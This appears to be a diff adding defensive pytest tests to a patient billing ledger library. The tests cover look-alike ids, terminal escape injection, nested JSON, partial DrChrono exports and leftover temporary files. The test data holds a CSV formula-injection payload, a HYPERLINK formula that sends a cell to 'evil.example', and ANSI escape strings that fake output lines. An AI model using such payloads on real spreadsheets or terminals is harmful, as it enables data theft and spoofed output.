@@ -4,10 +4,13 @@ every refusal quick and names what it refuses. One test (or table) per finding."
 from __future__ import annotations
 
 import codecs
+import csv
 import datetime
 import hashlib
+import io
 import json
 import os
+import re
 import shutil
 import sqlite3
 import stat
@@ -24,7 +27,7 @@ import pytest
 from moneyed import Money
 
 import patient_ledger as pl
-from patient_ledger import _files, cli, drchrono, fhir, journal
+from patient_ledger import _files, cli, drchrono, fhir, imports, journal, tables
 from patient_ledger.cli import main
 from patient_ledger.errors import (
     ConcurrencyError,
@@ -34,6 +37,7 @@ from patient_ledger.errors import (
     LedgerError,
     StoreError,
 )
+from patient_ledger.imports import load_mapping
 from patient_ledger.invariants import check_invariants
 from patient_ledger.store import open_store
 from tests import test_fuzz as fuzz
@@ -150,14 +154,14 @@ def test_a_writer_that_ignores_the_lock_is_refused_not_overwritten(
     source = tmp_path / "a.csv"
     source.write_text(rows("A", 2))
     theirs = journal.dumps(pay(journal.loads(booked.read_bytes()), "THEIRS", "7.00"))
-    posting = cli._import_rows
+    posting = imports.import_files
 
-    def racing(*args: Any) -> pl.Ledger:
-        ledger = posting(*args)
+    def racing(*args: Any, **options: Any) -> tuple[pl.Ledger, imports.Summary]:
+        done = posting(*args, **options)
         booked.write_text(theirs, encoding="utf-8")  # another program, no lock, mid-import
-        return ledger
+        return done
 
-    monkeypatch.setattr(cli, "_import_rows", racing)
+    monkeypatch.setattr(imports, "import_files", racing)
     assert main(["import-payments", str(source), "--journal", str(booked)]) == 1
     assert "changed while it was being written" in capsys.readouterr().err
     assert booked.read_text(encoding="utf-8") == theirs  # their work kept
@@ -593,9 +597,10 @@ def test_line_numbers_count_lines_of_the_file_after_a_multi_line_field(
 ) -> None:
     source = tmp_path / "a.csv"
     source.write_text(
-        CSV_HEAD + '"X\n1\n",P1,1.00,2025-04-01,CASH,PAYMENT,\n'  # lines 2 to 4
+        # (a cell is trimmed, so "\nX1\n" is the id X1: ids may not hold a newline)
+        CSV_HEAD + '"\nX1\n",P1,1.00,2025-04-01,CASH,PAYMENT,\n'  # lines 2 to 4
         "X2,P1,1.00,2025-04-01,CASH,PAYMENT,\n"  # line 5
-        '"X\n3",P1,oops,2025-04-01,CASH,PAYMENT,\n'  # lines 6 and 7
+        '"X3\n",P1,oops,2025-04-01,CASH,PAYMENT,\n'  # lines 6 and 7
     )
     assert main(["import-payments", str(source), "--journal", str(tmp_path / "n.jsonl")]) == 1
     assert "line 6:" in capsys.readouterr().err
@@ -668,9 +673,10 @@ def test_invisible_only_ids_are_blank(blank: str) -> None:
 def test_a_nul_in_a_journal_name_is_a_ledger_error(url: str) -> None:  # noqa: F811
     store = open_store(url)
     try:
-        with pytest.raises(StoreError, match="NUL"):
+        # Issue 25, item 9: a NUL is refused in every id, journal names included.
+        with pytest.raises(InvalidInputError, match=r"U\+0000"):
             store.save("a\x00b", pl.Ledger.empty(), expected_version=0)
-        with pytest.raises(StoreError, match="NUL"):
+        with pytest.raises(InvalidInputError, match=r"U\+0000"):
             store.load("a\x00b")
         with pytest.raises(InvalidInputError, match="empty"):
             store.save("\u200b", pl.Ledger.empty(), expected_version=0)
@@ -773,3 +779,600 @@ def test_a_bad_row_near_the_top_is_refused_without_reading_the_rest(
         tracemalloc.stop()
     assert "line 2:" in capsys.readouterr().err
     assert peak < 2_000_000  # the whole file as rows would take well over 50 MB
+
+
+# == Issue 25 (hostile round 2): files and output — items 1, 8, 9, 10, 11, 16, 17 ============
+
+# -- 9. look-alike ids -------------------------------------------------------------------------
+
+LOOK_ALIKES = [
+    ("P1\u200b", 0x200B),  # zero-width space (Cf)
+    ("P1\x00", 0x0),  # NUL (Cc)
+    ("P\x1b[2J1", 0x1B),  # ESC (Cc)
+    ("P1\u2028", 0x2028),  # line separator (Zl)
+    ("P\u20291", 0x2029),  # paragraph separator (Zp)
+    ("\ufeffP1", 0xFEFF),  # a BOM (Cf)
+    ("P\u202e1", 0x202E),  # right-to-left override (Cf)
+    (" P1", 0x20),  # leading whitespace
+    ("P1\u00a0", 0xA0),  # trailing no-break space
+    ("P1\t", 0x9),  # a tab (Cc)
+]
+
+
+@pytest.mark.parametrize(("look_alike", "code_point"), LOOK_ALIKES)
+def test_a_look_alike_id_is_refused_naming_the_id_and_the_character(
+    look_alike: str, code_point: int
+) -> None:
+    """Item 9: 'P1\\u200b' was a second patient that printed as P1."""
+    ledger = pay(pl.Ledger.empty(), "PAY1", "10.00")
+    with pytest.raises(InvalidInputError) as caught:
+        pay(ledger, "PAY2", "10.00", pid=look_alike)
+    assert repr(look_alike) in str(caught.value)
+    assert f"U+{code_point:04X}" in str(caught.value)
+    assert caught.value.details["code_point"] == code_point
+    with pytest.raises(InvalidInputError, match=f"U\\+{code_point:04X}"):
+        pl.Appointment(look_alike, "P1", D(2025, 1, 2))
+
+
+def test_ids_that_print_plainly_are_still_ids() -> None:
+    """Item 9: inner spaces, accents, other scripts and private-use characters are kept."""
+    for good in ("P 1", "Zoë", "患者-7", "P\ue000", "P1\u00a0x"):
+        assert pl.Appointment("A1", good, D(2025, 1, 2)).patient_id == good
+
+
+def test_a_look_alike_id_in_a_csv_import_is_refused_naming_the_line(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    source = tmp_path / "a.csv"
+    source.write_text(CSV_HEAD + "X1,P1,1.00,2025-04-01,CASH,PAYMENT,\n"
+                      "X2,P1\u200b,1.00,2025-04-01,CASH,PAYMENT,\n", encoding="utf-8")  # fmt: skip
+    target = tmp_path / "j.jsonl"
+    assert main(["import-payments", str(source), "--journal", str(target)]) == 1
+    err = capsys.readouterr().err
+    assert "line 3:" in err
+    assert "U+200B" in err
+    assert not target.exists()
+
+
+# -- 1. commands that write a whole new journal never replace a file unless told --------------
+
+DRCHRONO_DATA = Path(__file__).parent / "data" / "drchrono"
+NEW_JOURNAL_COMMANDS: dict[str, list[str]] = {
+    "import-drchrono": ["import-drchrono", str(DRCHRONO_DATA)],
+    "demo": ["demo", "--scenario", "seed", "--colour", "never"],
+}
+
+
+@pytest.mark.parametrize("command", NEW_JOURNAL_COMMANDS)
+@pytest.mark.parametrize("existing", ["csv", "journal"])
+def test_a_command_writing_a_new_journal_refuses_an_existing_file(
+    command: str, existing: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Item 1: import-drchrono and demo replaced any file at --journal and exited 0."""
+    target = tmp_path / "practice.jsonl"
+    if existing == "csv":
+        target.write_text(CSV_HEAD + "X1,P1,1.00,2025-04-01,CASH,PAYMENT,\n", encoding="utf-8")
+    else:
+        target.write_text(journal.dumps(pay(pl.Ledger.empty(), "PAY1", "10.00")), encoding="utf-8")
+    before = target.read_bytes()
+    argv = [*NEW_JOURNAL_COMMANDS[command], "--journal", str(target)]
+    assert main(argv) == 1
+    out, err = capsys.readouterr()
+    assert target.read_bytes() == before
+    assert str(target) in err
+    assert "--replace" in err
+    assert "nothing was written" in err
+    assert out == ""  # refused before any work
+    assert main([*argv, "--replace"]) == 0
+    out = capsys.readouterr().out
+    assert target.read_bytes() != before
+    assert "replaced" in out
+    assert str(target) in out
+    assert main(["verify", str(target)]) == 0
+    assert sorted(p.name for p in tmp_path.iterdir()) == [".practice.jsonl.lock", target.name]
+
+
+def test_a_file_that_appears_while_a_new_journal_is_built_is_not_replaced(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Item 1: the check is made again under the writer lock, just before the write."""
+    target = tmp_path / "practice.jsonl"
+    real = drchrono.import_records
+
+    def slow(*args: Any, **kwargs: Any) -> Any:
+        target.write_text("someone else's\n", encoding="utf-8")
+        return real(*args, **kwargs)
+
+    monkeypatch.setattr(drchrono, "import_records", slow)
+    assert main(["import-drchrono", str(DRCHRONO_DATA), "--journal", str(target)]) == 1
+    assert target.read_text(encoding="utf-8") == "someone else's\n"
+
+
+# -- 17. import-drchrono: the exit code agrees with what was written ---------------------------
+
+
+def test_an_unreconciled_drchrono_import_says_it_wrote_the_journal(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Item 17: it exited 1 ("refused") after writing the journal; now 4, and says so."""
+    folder = tmp_path / "export"
+    shutil.copytree(DRCHRONO_DATA, folder)
+    items = json.loads((folder / "line_items.json").read_text(encoding="utf-8"))
+    first = items if isinstance(items, list) else items["results"]
+    first[0]["pt_paid"] = "999.00"  # DrChrono shows money we do not have
+    (folder / "line_items.json").write_text(json.dumps(items), encoding="utf-8")
+    target = tmp_path / "j.jsonl"
+    assert main(["import-drchrono", str(folder), "--journal", str(target)]) == cli.EXIT_UNRECONCILED
+    out = capsys.readouterr().out
+    assert "the journal was written" in out
+    assert "do not reconcile" in out
+    assert main(["verify", str(target)]) == 0
+
+
+# -- 11. text output escapes every control and line-separator character -----------------------
+
+
+def test_printable_escapes_line_and_paragraph_separators() -> None:
+    """Item 11: U+2028/U+2029 were printed raw (a fake table row)."""
+    assert tables.printable("P1\u2028P2\u2029") == r"P1\u2028P2\u2029"
+    assert tables.one_line("a\u2028b\u2029c") == "a b c"
+
+
+def test_the_drchrono_summary_escapes_the_records_ids(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Item 11: a skipped record's id was printed raw: escape sequences, newlines, U+2028."""
+    folder = tmp_path / "export"
+    shutil.copytree(DRCHRONO_DATA, folder)
+    page = json.loads((folder / "patient_payments.json").read_text(encoding="utf-8"))
+    records = page if isinstance(page, list) else page["results"]
+    evil = "7\x1b[2J\nreconciled: fake\u2028x"
+    records.append(records[0] | {"id": evil, "amount": 0})  # skipped: an amount of zero
+    if isinstance(page, dict):
+        page["count"] = len(records)
+    (folder / "patient_payments.json").write_text(json.dumps(page), encoding="utf-8")
+    assert main(["import-drchrono", str(folder), "--journal", str(tmp_path / "j.jsonl")]) == 0
+    out = capsys.readouterr().out
+    assert r"patient_payment 7\x1b[2J\nreconciled: fake\u2028x: its amount is zero" in out
+    assert not re.search("[\x00-\x09\x0b-\x1f\x7f\u2028\u2029]", out)
+    assert out.count("reconciled:") == 2  # the escaped fake and the real one
+
+
+def test_a_column_mapping_with_a_byte_order_mark_is_read(tmp_path: Path) -> None:
+    """Item 17: a TOML mapping saved by a Windows editor (a UTF-8 BOM) was "Invalid statement"."""
+    clinic = Path(__file__).parent / "data" / "clinic" / "columns.toml"
+    with_bom = tmp_path / "columns.toml"
+    with_bom.write_bytes(codecs.BOM_UTF8 + clinic.read_bytes())
+    assert load_mapping(with_bom) == load_mapping(clinic)
+    assert load_mapping(with_bom)["charges"]["id"] == "Line"
+
+
+# -- 8. compare: names that would overwrite a column ------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("names", "named"),
+    [
+        (("x", "x"), "'x'"),
+        (("patient_id", "b"), "'patient_id'"),
+        (("a", "change"), "'change'"),
+        (("figure", "appointment_id"), "'figure', 'appointment_id'"),
+    ],
+)
+def test_compare_refuses_names_that_overwrite_a_column(names: tuple[str, str], named: str) -> None:
+    """Item 8: a repeated or reserved name silently overwrote a column of records/to_pandas."""
+    before = pay(pl.Ledger.empty(), "PAY1", "10.00")
+    after = pay(before, "PAY2", "5.00")
+    with pytest.raises(InvalidInputError) as caught:
+        pl.compare(before, after, names=names)
+    assert named in str(caught.value)
+    assert caught.value.details["names"] == names
+    with pytest.raises(InvalidInputError):
+        pl.Comparison((), names)
+    with pytest.raises(InvalidInputError, match="two str"):
+        pl.compare(before, after, names=("a",))  # type: ignore[arg-type]
+    assert pl.compare(before, after, names=("before", "after")).records()[0]["after"] == Decimal(
+        "15.00"
+    )
+
+
+# -- 10. CSV cells a spreadsheet would run -----------------------------------------------------
+
+FORMULA_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"P1")', "@SUM(1+1)", "+1", "-5", "=1+1"]
+
+
+def test_balances_csv_neutralises_formulas_and_keeps_amounts_numbers(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Item 10: ids starting with = + - @ were written raw (CSV formula injection); amounts,
+    negative ones included, must stay numbers."""
+    ledger = pl.Ledger.empty()
+    for n, pid in enumerate(FORMULA_IDS):
+        ledger = pay(ledger, f"PAY{n}", "10.00", pid=pid)
+    ledger = pl.add_appointment(ledger, pl.Appointment("A1", "-5", D(2025, 1, 2)))
+    ledger = pl.add_charge(ledger, pl.Charge("C1", "A1", Money("25.00", "USD")))
+    target = tmp_path / "j.jsonl"
+    target.write_text(journal.dumps(ledger), encoding="utf-8")
+    assert main(["balances", str(target), "--format", "csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert sorted(row["patient_id"] for row in rows) == sorted("'" + pid for pid in FORMULA_IDS)
+    for row in rows:
+        assert not row["patient_id"].startswith(tables.FORMULA_STARTS)
+        for field in tables.DASHBOARD.fields():
+            Decimal(row[field])  # every amount is a plain number
+    by_id = {row["patient_id"]: row for row in rows}
+    assert by_id["'-5"]["total_balance"] == "15.00"
+    assert by_id["'=1+1"]["total_balance"] == "-10.00"  # a negative amount is not quoted
+
+
+def test_every_text_cell_of_a_csv_row_is_spreadsheet_safe() -> None:
+    """Item 10: the rule is in tables.csv_row, which every CSV the library writes uses."""
+    row = tables.LINE_ITEMS
+    item = pl.LineItem(
+        charge_id="=C1",
+        appointment_id="@A1",
+        code="+99213",
+        description="\tdesc",
+        responsibility=Money("-1.00", "USD"),
+        paid=Money("0.00", "USD"),
+        balance_due=Money("-1.00", "USD"),
+    )
+    cells = tables.csv_row(row, item, first=["\rP1"])
+    assert cells == ["'\rP1", "'=C1", "'@A1", "'+99213", "'\tdesc", "-1.00", "0.00", "-1.00"]
+
+
+# -- 16. nothing a killed writer leaves outlives it -------------------------------------------
+
+#: A command line run in a child that SIGKILLs itself when ``{module}.{function}`` is called.
+KILLED_AT = """
+import os, signal, sys
+from patient_ledger import _files, imports
+from patient_ledger.cli import main
+
+def die(*args, **kwargs):
+    os.kill(os.getpid(), signal.SIGKILL)
+
+setattr({module}, {function!r}, die)
+main(sys.argv[1:])
+"""
+
+
+def killed_at(module: str, function: str, argv: list[str], tmp: Path) -> int:
+    """Run the command line in a child killed when ``module.function`` is called (with this
+    process's own patient_ledger, and ``tmp`` as its temporary folder); its return code."""
+    code = KILLED_AT.format(module=module, function=function)
+    own = str(Path(pl.__file__).parent.parent)
+    env = {**os.environ, "PYTHONPATH": own, "TMPDIR": str(tmp), "SQLITE_TMPDIR": str(tmp)}
+    done = subprocess.run(
+        [sys.executable, "-c", code, *argv], env=env, capture_output=True, check=False
+    )
+    return done.returncode
+
+
+def test_an_import_killed_while_posting_leaves_no_spool(booked: Path, tmp_path: Path) -> None:
+    """Item 16: a SIGKILLed import left its spool database (every input row) in the temporary
+    folder; it is now SQLite's own temporary file, unlinked as soon as it is opened."""
+    tmp = tmp_path / "tmp"
+    tmp.mkdir()
+    visits = tmp_path / "visits.csv"
+    visits.write_text(
+        "visit_id,patient_id,date\n"
+        + "".join(f"V{n},P{n % 7},2025-01-{n % 28 + 1:02d}\n" for n in range(20_000)),
+        encoding="utf-8",
+    )
+    before = booked.read_bytes()
+    argv = ["import", "--visits", str(visits), "--journal", str(booked)]
+    assert killed_at("imports", "_post", argv, tmp) == -9
+    assert list(tmp.iterdir()) == []
+    assert booked.read_bytes() == before
+    assert not list(tmp_path.glob(".*.tmp"))
+
+
+def test_a_journal_writer_killed_before_its_rename_leaves_no_temporary_file(
+    booked: Path, tmp_path: Path
+) -> None:
+    """Item 16: a writer killed after writing its whole new journal, before renaming it, left
+    '.clinic.jsonl.<hex>.tmp' with every patient's data. It is written unnamed (O_TMPFILE)."""
+    source = tmp_path / "a.csv"
+    source.write_text(rows("K", 50))
+    before = booked.read_bytes()
+    argv = ["import-payments", str(source), "--journal", str(booked)]
+    assert killed_at("_files", "_check_unchanged", argv, tmp_path) == -9
+    assert booked.read_bytes() == before
+    if hasattr(os, "O_TMPFILE"):
+        assert not list(tmp_path.glob(".*.tmp"))
+
+
+def test_the_next_writer_removes_a_dead_writers_temporary_file(
+    booked: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Item 16: where a temporary file must have a name from the start (no O_TMPFILE) or is
+    killed between naming and renaming, the next writer of the journal, holding its lock,
+    removes it (only a dead writer's can be there)."""
+    source = tmp_path / "a.csv"
+    source.write_text(rows("K", 50))
+    monkeypatch.setattr(_files, "_open_unnamed", lambda folder: None, raising=False)
+    stale = tmp_path / ".clinic.jsonl.0123456789ab.tmp"
+    stale.write_text("every patient's data\n", encoding="utf-8")
+    kept = [tmp_path / ".clinic.jsonl.notes.tmp", tmp_path / ".other.jsonl.0123456789ab.tmp"]
+    for path in kept:
+        path.write_text("not a dead writer's\n", encoding="utf-8")
+    assert main(["import-payments", str(source), "--journal", str(booked)]) == 0
+    assert not stale.exists()
+    assert all(path.exists() for path in kept)
+    assert sorted(p.name for p in tmp_path.glob(".*.tmp")) == sorted(p.name for p in kept)
+
+
+# == Hostile round 2 (issue 25) — DrChrono and frames =========================================
+
+pd = pytest.importorskip("pandas")
+from patient_ledger import frames  # noqa: E402 - this section's own imports
+
+#: Amount texts the CSV path refuses: every amount reader refuses them (item 7).
+LOOSE = ("1.23457E+11", "1e5", "1E5", "\u0661\u0662\u0663", "1_000", " 10.00", "+5", "10.", "0x10")
+BOOKED = [{"id": 1, "patient": 7, "scheduled_time": "2025-01-02T09:00:00"}]
+PAID = {"id": 9, "patient": 7, "appointment": 1, "received_date": "2025-01-02"}
+
+
+@pytest.mark.parametrize("text", LOOSE)
+def test_drchrono_string_amounts_use_the_one_strict_parser(text: str) -> None:
+    error = quick(lambda: drchrono.load(BOOKED, [], [{**PAID, "amount": text}]))
+    assert isinstance(error, InvalidAmountError)
+    assert str(error).startswith("patient_payment record '9': amount")
+
+
+@pytest.mark.parametrize("number", ["1e5", "1E+5", "1.5e2", "100000e-2", "-1e1"])
+def test_a_drchrono_json_number_with_an_exponent_is_refused_naming_record_and_field(
+    number: str,
+) -> None:
+    parsed = drchrono.read_json(
+        f'[{{"id": 9, "patient": 7, "appointment": 1, "amount": {number},'
+        ' "received_date": "2025-01-02"}]'
+    )
+    error = quick(lambda: drchrono.load(BOOKED, [], parsed))
+    assert isinstance(error, InvalidAmountError)
+    assert "patient_payment record '9': amount" in str(error)
+    assert "no exponent" in str(error)
+    items = drchrono.read_json(
+        f'[{{"id": 5, "appointment": 1, "pt_paid": 0, "balance_pt": {number}}}]'
+    )
+    error = quick(lambda: drchrono.load(BOOKED, items, []))
+    assert "line_item record '5': balance_pt" in str(error)
+
+
+def test_drchrono_decimal_values_in_exponent_form_are_refused_and_plain_ones_read() -> None:
+    error = quick(lambda: drchrono.load(BOOKED, [], [{**PAID, "amount": Decimal("1E+5")}]))
+    assert isinstance(error, InvalidAmountError)
+    for amount in ("10.00", 10, Decimal("10.00"), 10.0, drchrono.read_json("10.00")):
+        ledger = drchrono.load(BOOKED, [], [{**PAID, "amount": amount}])
+        assert pl.dashboard(ledger, "7").total_paid == Money("10.00", "USD")
+
+
+def clinic_frames() -> dict[str, Any]:
+    return {
+        "visits": pd.DataFrame(
+            {"appointment_id": ["V1"], "patient_id": ["P1"], "date": ["2025-01-10"]}
+        ),
+        "charges": pd.DataFrame(
+            {"charge_id": ["C1"], "appointment_id": ["V1"], "amount": ["40.00"]}
+        ),
+        "payments": pd.DataFrame(
+            {
+                "payment_id": ["PAY1", "PAY2"],
+                "patient_id": ["P1", "P1"],
+                "amount": ["10.00", "5.00"],
+                "received_on": ["2025-01-11", "2025-01-12"],
+                "method": ["CASH", float("nan")],
+                "type": [None, float("nan")],
+            },
+            index=[10, 11],
+        ),
+    }
+
+
+@pytest.mark.parametrize("text", [*LOOSE, Decimal("1.23457E+11"), Decimal("1E+5")])
+def test_from_frames_amounts_use_the_one_strict_parser(text: object) -> None:
+    tables = clinic_frames()
+    tables["payments"] = tables["payments"].astype(object)
+    tables["payments"].loc[11, "amount"] = text
+    error = quick(lambda: frames.from_frames(**tables))
+    assert isinstance(error, InvalidAmountError)
+    assert str(error).startswith("payments row 11, column 'amount'")
+
+
+def test_from_frames_reads_nan_in_an_optional_column_as_absent() -> None:
+    ledger = frames.from_frames(**clinic_frames())
+    methods = [e.payment.method for e in ledger.events if isinstance(e, pl.PaymentPosted)]
+    assert methods == [pl.PaymentMethod.CASH, pl.PaymentMethod.OTHER]
+
+
+def test_from_frames_names_table_and_row_of_any_refusal() -> None:
+    tables = clinic_frames()
+    tables["payments"].loc[11, "method"] = "BITCOIN"
+    error = quick(lambda: frames.from_frames(**tables))
+    assert isinstance(error, InvalidInputError)
+    assert str(error).startswith("payments row 11: ")
+    tables = clinic_frames()
+    tables["charges"].loc[0, "appointment_id"] = "V404"  # refused by the command
+    error = quick(lambda: frames.from_frames(**tables))
+    assert isinstance(error, pl.UnknownIdError)
+    assert str(error).startswith("charges row 0: ")
+
+
+@pytest.mark.parametrize("flag", [True, False])
+def test_from_frames_says_a_bool_amount_is_a_bool(flag: bool) -> None:
+    tables = clinic_frames()
+    tables["charges"]["amount"] = [flag]
+    error = quick(lambda: frames.from_frames(**tables))
+    assert isinstance(error, InvalidAmountError)
+    assert f"charges row 0, column 'amount': {flag!r} is a bool" in str(error)
+    assert "float" not in str(error)
+
+
+@pytest.mark.parametrize(
+    ("keyword", "value", "said"),
+    [
+        ("visits", [{"appointment_id": "V1"}], "visits must be a pandas DataFrame, got list"),
+        ("payments", "payments.csv", "payments must be a pandas DataFrame, got str"),
+        ("charges", {"amount": [1]}, "charges must be a pandas DataFrame, got dict"),
+        ("ledger", "journal.jsonl", "ledger must be a Ledger, got str"),
+        ("ledger", pd.DataFrame(), "ledger must be a Ledger, got DataFrame"),
+    ],
+)
+def test_from_frames_names_what_it_was_given_instead_of_a_frame(
+    keyword: str, value: object, said: str
+) -> None:
+    error = quick(lambda: frames.from_frames(**{keyword: value}))
+    assert isinstance(error, InvalidInputError)
+    assert said in str(error)
+
+
+@pytest.mark.parametrize("depth", [1_000, 100_000, 3_000_000])
+def test_deeply_nested_drchrono_json_is_refused_quickly(depth: int, tmp_path: Path) -> None:
+    for text in ("[" * depth + "]" * depth, '{"a":' * depth + "1" + "}" * depth):
+        error = quick(lambda t=text: drchrono.read_json(t), bound=2.0)
+        assert isinstance(error, InvalidInputError)
+        assert "nested too deeply" in str(error)
+    folder = tmp_path / "export"
+    folder.mkdir()
+    for name in ("appointments", "line_items", "patient_payments"):
+        (folder / f"{name}.json").write_text("[]")
+    (folder / "line_items.json").write_text("[" * depth)
+    error = quick(lambda: drchrono.load_directory(str(folder)), bound=2.0)
+    assert f"{folder / 'line_items.json'}: JSON nested too deeply" in str(error)
+
+
+def test_read_json_is_near_json_loads_in_time_and_memory() -> None:
+    text = json.dumps(
+        [
+            {"id": i, "patient": i % 97, "amount": float(f"{i % 9973}.25"), "x": 1.5}
+            for i in range(150_000)
+        ]
+    )  # about 9 MB, a number in every other token: the worst case for a number hook
+    figures = {}
+    for name, parse in (("json", json.loads), ("read_json", drchrono.read_json)):
+        best = float("inf")
+        for _ in range(3):
+            start = time.process_time()
+            parse(text)
+            best = min(best, time.process_time() - start)
+        tracemalloc.start()
+        try:
+            parse(text)
+            _, peak = tracemalloc.get_traced_memory()
+        finally:
+            tracemalloc.stop()
+        figures[name] = (best, peak)
+    assert figures["read_json"][0] < 2.0 * figures["json"][0], figures
+    # exact Decimals (about 100 bytes against a float's 24) are the only memory beyond it
+    assert figures["read_json"][1] < 2.0 * figures["json"][1], figures
+
+
+def page(records: list[dict[str, Any]], **links: object) -> dict[str, Any]:
+    return {"previous": None, "next": None, "data": records} | links
+
+
+PAGE_2 = "https://app.drchrono.com/api/line_items?cursor=cD0yMDI1"
+
+
+@pytest.mark.parametrize(
+    ("answer", "said"),
+    [
+        (page([], next=PAGE_2), f"more records follow (its last page's next is '{PAGE_2}')"),
+        ({"count": 3, "next": None, "results": [{"id": 1}]}, "its count is 3 but it holds 1"),
+        (page([], previous=PAGE_2), "earlier pages were not exported"),
+        ([page([{"id": 1}], next=PAGE_2), page([{"id": 2}], next=PAGE_2)], "more records follow"),
+    ],
+)
+def test_a_partial_page_export_is_refused_unless_partial(answer: Any, said: str) -> None:
+    error = quick(lambda: drchrono.records(answer, source="line_items.json"))
+    assert isinstance(error, pl.IncompleteExportError)
+    assert str(error).startswith(f"line_items.json is a partial export: {said}")
+    assert drchrono.records(answer, partial=True) == drchrono.records(answer, partial=True)
+
+
+def test_every_page_of_an_export_is_complete() -> None:
+    pages = [
+        {"count": 2, "previous": None, "next": PAGE_2, "results": [{"id": 1}]},
+        {"count": 2, "previous": PAGE_2, "next": None, "results": [{"id": 2}]},
+    ]
+    assert drchrono.missing(pages) == ()
+    assert drchrono.records(pages) == [{"id": 1}, {"id": 2}]
+    assert drchrono.missing([{"id": 1, "next": PAGE_2}]) == ()  # records say nothing
+
+
+def test_import_drchrono_refuses_a_partial_export_and_says_so_with_partial(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    folder = tmp_path / "export"
+    shutil.copytree(Path(__file__).parent / "data" / "drchrono_v4", folder)
+    items = json.loads((folder / "line_items.json").read_text())
+    items[-1]["next"] = PAGE_2  # a list of pages whose last says more follow
+    (folder / "line_items.json").write_text(json.dumps(items))
+    target = tmp_path / "practice.jsonl"
+    assert main(["import-drchrono", str(folder), "--journal", str(target)]) == 1
+    err = capsys.readouterr().err
+    assert f"{folder / 'line_items.json'} is a partial export: more records follow" in err
+    assert not target.exists()
+    with pytest.raises(pl.IncompleteExportError):
+        drchrono.import_directory(str(folder))
+    assert main(["import-drchrono", str(folder), "--journal", str(target), "--partial"]) == 5
+    out = capsys.readouterr().out
+    assert "PARTIAL export: the figures cover only the records it holds; it lacks:" in out
+    assert "  line_items.json: more records follow" in out
+    assert target.exists()
+    _, summary = drchrono.import_directory(str(folder), partial=True)
+    assert not summary.complete
+    assert summary.missing == (
+        f"line_items.json: more records follow (its last page's next is '{PAGE_2}')",
+    )
+
+
+def hostile_corrections(n: int) -> tuple[list[Any], list[Any], list[Any]]:
+    """n payments, then n corrections without parent_id, each taking all of the newest one
+    left: the old search passed over every payment already taken back (n² in all)."""
+    day = {"received_date": "2025-01-02"}
+    payments = [{"id": i, "patient": 1, "amount": "10.00"} | day for i in range(1, n + 1)]
+    taken = {"amount": "-10.00", "payment_transaction_type": "COR", "received_date": "2025-01-03"}
+    return [], [], payments + [{"id": n + i, "patient": 1} | taken for i in range(1, n + 1)]
+
+
+def hostile_cancellations(n: int) -> tuple[list[Any], list[Any], list[Any]]:
+    """n cancelled visits of one patient, each holding a deposit: the old summary built the
+    patient's whole claims feed for each (n² in all)."""
+    visits = [
+        {"id": i, "patient": 1, "scheduled_time": "2025-01-02", "status": "Cancelled"}
+        for i in range(1, n + 1)
+    ]
+    deposits = [
+        {"id": 10**6 + i, "patient": 1, "appointment": i, "amount": "5.00"}
+        | {"received_date": "2025-01-01"}
+        for i in range(1, n + 1)
+    ]
+    return visits, [], deposits
+
+
+@pytest.mark.parametrize("build", [hostile_corrections, hostile_cancellations])
+def test_drchrono_corrections_and_cancellations_cost_what_they_touch(
+    build: Callable[[int], tuple[list[Any], list[Any], list[Any]]],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    lists = build(2_000)
+    assert sum(len(json.dumps(x)) for x in lists) > 300_000  # a few hundred KB
+    calls = {"allocations": 0, "claims_feed": 0}
+    for name in calls:
+        view = getattr(drchrono, name)
+
+        def counted(*args: Any, _view: Any = view, _name: str = name) -> Any:
+            calls[_name] += 1
+            return _view(*args)
+
+        monkeypatch.setattr(drchrono, name, counted)
+    start = time.process_time()
+    ledger, summary = drchrono.import_records(*lists)
+    elapsed = time.process_time() - start
+    assert len(ledger.events) > 4_000
+    assert summary.reconciled
+    assert calls["allocations"] <= 3 * sum(map(len, lists)), calls  # a few per record
+    assert calls["claims_feed"] <= 2, calls  # once for the reconciliation
+    assert elapsed < 2.0, f"{elapsed:.2f} s"
